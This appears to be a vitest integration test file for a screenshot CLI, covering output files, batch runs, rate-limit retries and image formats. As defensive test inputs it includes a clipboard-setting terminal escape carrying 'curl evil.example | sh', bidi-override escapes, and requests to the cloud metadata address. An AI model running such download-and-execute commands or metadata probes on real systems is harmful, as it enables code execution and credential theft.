// @module-tag chromium
import { existsSync } from 'node:fs';
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runShot } from '../../src/cli/commands/shot.js';
import type { ShotIo } from '../../src/cli/shot/io.js';
import { startTestApp, type TestApp } from '../helpers/app.js';
import { chromiumAvailable } from '../helpers/browser.js';
import { type PageServer, startPageServer } from '../helpers/pages.js';
import { pixelAt, pngSize } from '../helpers/png.js';

// `npx cardshot shot` in-process against the real server, real Chromium and local fixture pages:
// the files it writes (format, size, pixels), what it prints, and its exit status.

const run = chromiumAvailable();

/** The command's streams, recorded; `tty` makes stderr a terminal. */
function recorder(stdin = '', tty = false) {
  const out: Array<string | Uint8Array> = [];
  const err: string[] = [];
  const io: ShotIo = {
    stdout: { isTTY: false, write: (d) => out.push(d) },
    stderr: { isTTY: tty, write: (d) => err.push(String(d)) },
    readStdin: async () => stdin,
  };
  return {
    io,
    stdout: () => out.filter((d) => typeof d === 'string').join(''),
    bytes: () => Buffer.concat(out.filter((d): d is Uint8Array => typeof d !== 'string')),
    stderr: () => err.join(''),
  };
}

describe.runIf(run)('cardshot shot against the real server', () => {
  let t: TestApp;
  let limited: TestApp;
  let pages: PageServer;
  let server: string;
  let dir: string;

  beforeAll(async () => {
    dir = await mkdtemp(path.join(os.tmpdir(), 'cardshot-shot-'));
    pages = await startPageServer();
    t = await startTestApp({ allowPrivateHosts: [pages.hostPort] });
    server = await t.listen();
  });
  afterAll(async () => {
    await t?.close();
    await limited?.close();
    await pages?.close();
    await rm(dir, { recursive: true, force: true });
  });

  const shot = (argv: string[], rec = recorder()) =>
    runShot([...argv, '--server', server, '--api-key', t.key.key], rec.io).then((code) => ({ code, ...rec }));

  it('writes a PNG of the page, named from the host by default, and says what it wrote', async () => {
    const file = path.join(dir, 'split.png');
    const r = await shot([`${pages.url}/split`, '-o', file]);
    expect(r.code, r.stderr()).toBe(0);
    const png = await readFile(file);
    expect(pngSize(png)).toEqual({ width: 1200, height: 630 });
    expect(await pixelAt(png, 100, 300)).toEqual([255, 0, 0, 255]);
    expect(await pixelAt(png, 1100, 300)).toEqual([0, 0, 255, 255]);
    expect(r.stdout()).toMatch(
      new RegExp(`^${file.replace(/[.]/g, '\\.')}: 1200×630 PNG, [\\d.]+ KB in [\\d.]+ s \\(MISS\\)\\n$`),
    );

    // -o naming a folder: the default name (host and extension) inside it.
    const again = await shot([`${pages.url}/split`, '-o', `${dir}/`]);
    expect(again.code).toBe(0);
    expect(again.stdout()).toContain(`${path.join(dir, '127.0.0.1.png')}: 1200×630 PNG`);
    expect(again.stdout()).toContain('(HIT)');
  }, 60_000);

  it('writes the image to standard output with -o -, and its description to stderr', async () => {
    const r = await shot([`${pages.url}/split`, '-o', '-']);
    expect(r.code).toBe(0);
    expect(pngSize(r.bytes())).toEqual({ width: 1200, height: 630 });
    expect(r.stdout()).toBe('');
    expect(r.stderr()).toMatch(/^stdout: 1200×630 PNG, /);
  }, 60_000);

  it('fails with the server’s message and request id, exit 1', async () => {
    const r = await shot(['http://169.254.169.254/latest/meta-data/', '-o', path.join(dir, 'no.png')]);
    expect(r.code).toBe(1);
    expect(r.stderr()).toMatch(
      /^cardshot shot: url points to an address that is not allowed \(HTTP 400, req_\w+\)\n$/,
    );
    expect(existsSync(path.join(dir, 'no.png'))).toBe(false);
  });

  it('says where it looked when no server answers, and asks for a key when there is none', async () => {
    const rec = recorder();
    const code = await runShot(
      ['https://example.com/', '--server', 'http://127.0.0.1:9', '--api-key', 'k'],
      rec.io,
    );
    expect(code).toBe(1);
    expect(rec.stderr()).toContain('cardshot shot: Could not reach Cardshot at http://127.0.0.1:9');
    expect(rec.stderr()).toContain('Is Cardshot running at http://127.0.0.1:9? Start it with `npm start`');

    const none = recorder();
    expect(await runShot(['https://example.com/', '--server', server, '--api-key', ''], none.io)).toBe(2);
    expect(none.stderr()).toMatch(/^cardshot shot: no API key: export CARDSHOT_KEY=cs_… /);

    const fromStdin = recorder(`${t.key.key}\n`);
    const file = path.join(dir, 'stdin-key.png');
    expect(
      await runShot([`${pages.url}/split`, '-o', file, '--server', server, '--api-key', '-'], fromStdin.io),
      fromStdin.stderr(),
    ).toBe(0);
    expect(pngSize(await readFile(file))).toEqual({ width: 1200, height: 630 });
  }, 60_000);

  it('captures a batch into a folder: a line per URL off a terminal, a summary, exit 1 when one failed', async () => {
    const list = path.join(dir, 'urls.txt');
    await writeFile(
      list,
      [
        '# fixture pages',
        `${pages.url}/split`,
        '',
        `${pages.url}/status/404   # rendered too`,
        'http://169.254.169.254/',
        `${pages.url}/split`,
      ].join('\n'),
    );
    const out = path.join(dir, 'batch');
    const r = await shot(['--batch', list, '-o', out, '--concurrency', '2']);
    expect(r.code).toBe(1);
    expect((await readdir(out)).sort()).toEqual([
      '127.0.0.1-split-2.png',
      '127.0.0.1-split.png',
      '127.0.0.1-status-404.png',
    ]);
    for (const f of await readdir(out))
      expect(pngSize(await readFile(path.join(out, f)))).toEqual({ width: 1200, height: 630 });
    const lines = r.stdout().trimEnd().split('\n');
    expect(lines.filter((l) => l.startsWith('ok    '))).toHaveLength(2);
    const saved404 = path.join(out, '127.0.0.1-status-404.png');
    expect(lines).toEqual(
      expect.arrayContaining([
        expect.stringMatching(
          /^FAIL {2}http:\/\/169\.254\.169\.254\/ \(line 5\): url points to an address that is not allowed \(HTTP 400, req_\w+\)$/,
        ),
        `404   ${pages.url}/status/404 -> ${saved404} (${lines.find((l) => l.startsWith('404'))?.split(' (')[1]}`,
      ]),
    );
    expect(lines.find((l) => l.startsWith('404'))).toMatch(/ \([\d.]+ KB, [\d.]+ s, MISS\)$/);
    expect(lines.slice(-3)).toEqual([
      expect.stringMatching(
        new RegExp(`^Captured 3 of 4 pages into ${out}/ in [\\d.]+ s; 1 failed, 1 answered 4xx/5xx:$`),
      ),
      `  line 4 ${pages.url}/status/404: the page answered HTTP 404 (saved as ${saved404})`,
      expect.stringMatching(/^ {2}line 5 http:\/\/169\.254\.169\.254\/: url points to an address/),
    ]);
    // No progress bar off a terminal.
    expect(r.stderr()).toBe('');
  }, 90_000);

  it('draws a progress bar on a terminal instead of the lines', async () => {
    const list = path.join(dir, 'two.txt');
    await writeFile(list, `${pages.url}/split\n${pages.url}/split?again\n`);
    const r = await shot(['--batch', list, '-o', path.join(dir, 'tty')], recorder('', true));
    expect(r.code).toBe(0);
    expect(r.stderr()).toContain(`\r${'█'.repeat(30)} 2/2`);
    expect(r.stdout()).toMatch(/^Captured 2 of 2 pages into .*\/tty\/ in [\d.]+ s\n$/);
  }, 60_000);

  it('a batch page that answered 404 is shown with its status, not as ok, and exits 1', async () => {
    // Regression: a 404 page was printed `ok` and the batch exited 0.
    const list = path.join(dir, 'one-404.txt');
    await writeFile(list, `${pages.url}/status/404\n`);
    const r = await shot(['--batch', list, '-o', path.join(dir, 'only-404')], recorder('', true));
    expect(r.code).toBe(1);
    expect(r.stderr()).toContain(`\r${'█'.repeat(30)} 1/1 (1 failed)`);
    const saved = path.join(dir, 'only-404', '127.0.0.1-status-404.png');
    expect(r.stdout()).toMatch(
      /^Captured 1 of 1 pages into .*\/only-404\/ in [\d.]+ s; 1 answered 4xx\/5xx:\n/,
    );
    expect(r.stdout()).toContain(
      `\n  line 1 ${pages.url}/status/404: the page answered HTTP 404 (saved as ${saved})\n`,
    );
    expect(pngSize(await readFile(saved))).toEqual({ width: 1200, height: 630 });

    // One page: the image is written, stderr names the status, exit 1.
    const file = path.join(dir, 'one-500.png');
    const one = await shot([`${pages.url}/status/500`, '-o', file]);
    expect(one.code).toBe(1);
    expect(one.stdout()).toMatch(new RegExp(`^${file.replace(/[.]/g, '\\.')}: 1200×630 PNG, `));
    expect(one.stderr()).toBe('cardshot shot: the page answered HTTP 500; the image shows its error page\n');
    expect(pngSize(await readFile(file))).toEqual({ width: 1200, height: 630 });
  }, 60_000);

  it('a batch file with terminal escapes (OSC 52) prints them escaped, never raw', async () => {
    // Regression: an OSC 52 line in a URL file reached the terminal raw (it sets the clipboard).
    const payload = Buffer.from('curl evil.example | sh').toString('base64');
    const osc52 = `\x1b]52;c;${payload}\x07`;
    const list = path.join(dir, 'escapes.txt');
    await writeFile(
      list,
      [osc52, `${pages.url}/split?q=${osc52}`, `http://169.254.169.254/\x1b[2K\x9b1A\u202e`].join('\n'),
    );
    const r = await shot(['--batch', list, '-o', path.join(dir, 'escapes')]);
    expect(r.code).toBe(1);
    const printed = r.stdout() + r.stderr();
    // No C0/C1 control character but the newlines that end lines, and no bidi override.
    const raw = [...printed].filter((c) => {
      const n = c.codePointAt(0)!;
      return (n < 0x20 && n !== 0x0a) || (n >= 0x7f && n <= 0x9f) || (n >= 0x202a && n <= 0x202e);
    });
    expect(raw).toEqual([]);
    expect(r.stdout()).toContain(`FAIL  \\x1B]52;c;${payload}\\x07 (line 1): `);
    expect(r.stdout()).toContain(`  line 1 \\x1B]52;c;${payload}\\x07: `);
    expect(r.stdout()).toContain('http://169.254.169.254/\\x1B[2K\\x9B1A\\u{202E}');
    // The URL with the escape in its query was still captured (the client percent-encodes it).
    expect(r.stdout()).toMatch(/^ok {4}.*split\?q=\\x1B\]52;c;/m);
  }, 60_000);

  it('waits out 429 Retry-After and still captures every page of a batch', async () => {
    const plans = path.join(dir, 'plans.json');
    // Two requests per 3 s window: a batch of four meets a 429 and must wait for the window.
    await writeFile(
      plans,
      JSON.stringify({
        trickle: {
          templates: '*',
          screenshots: { viewports: '*' },
          rateLimit: { requests: 2, windowSeconds: 3 },
        },
      }),
    );
    limited = await startTestApp(
      { allowPrivateHosts: [pages.hostPort], plansFile: plans },
      { plan: 'trickle' },
    );
    await limited.app.listen({ port: 0, host: '127.0.0.1' });
    const base = `http://127.0.0.1:${(limited.app.server.address() as { port: number }).port}`;
    const list = path.join(dir, 'four.txt');
    await writeFile(list, [1, 2, 3, 4].map((n) => `${pages.url}/split?n=${n}`).join('\n'));
    const rec = recorder();
    const started = Date.now();
    const code = await runShot(
      ['--batch', list, '-o', path.join(dir, 'limited'), '--server', base, '--api-key', limited.key.key],
      rec.io,
    );
    expect(code, rec.stdout()).toBe(0);
    expect(await readdir(path.join(dir, 'limited'))).toHaveLength(4);
    expect(Date.now() - started).toBeGreaterThanOrEqual(1000);
    // The server did refuse some of them: the batch waited and asked again.
    const answers = limited.logs.filter((l) => l.route === '/render/url').map((l) => l.status);
    expect(answers.filter((s) => s === 429).length, JSON.stringify(answers)).toBeGreaterThan(0);
    expect(answers.filter((s) => s === 200)).toHaveLength(4);
  }, 120_000);

  it('--full-page --format webp: a WebP as tall as WebP allows, and a note that the page was cut', async () => {
    const file = path.join(dir, 'tall.webp');
    const r = await shot([`${pages.url}/tall`, '--full-page', '-o', file]);
    expect(r.code, r.stderr()).toBe(0);
    const webp = await readFile(file);
    expect(webp.toString('ascii', 0, 4)).toBe('RIFF');
    expect(webp.toString('ascii', 8, 12)).toBe('WEBP');
    // WebP holds at most 16,383 px a side: one less than the server's default cap.
    expect(await sharp(webp).metadata()).toMatchObject({ format: 'webp', width: 1200, height: 16383 });
    expect(r.stdout()).toContain(`${file}: 1200×16383 WEBP`);
    expect(r.stderr()).toBe(
      "note: the page is 100000 px tall; the image stops at the server's full-page height cap\n",
    );
  }, 90_000);

  it('--format jpeg --quality and --scale 2: a JPEG of twice the viewport', async () => {
    const file = path.join(dir, 'split.jpg');
    const r = await shot([`${pages.url}/split`, '--scale', '2', '--quality', '70', '-o', file]);
    expect(r.code, r.stderr()).toBe(0);
    const jpeg = await readFile(file);
    expect([...jpeg.subarray(0, 3)]).toEqual([0xff, 0xd8, 0xff]);
    expect(await sharp(jpeg).metadata()).toMatchObject({ format: 'jpeg', width: 2400, height: 1260 });
  }, 60_000);
});
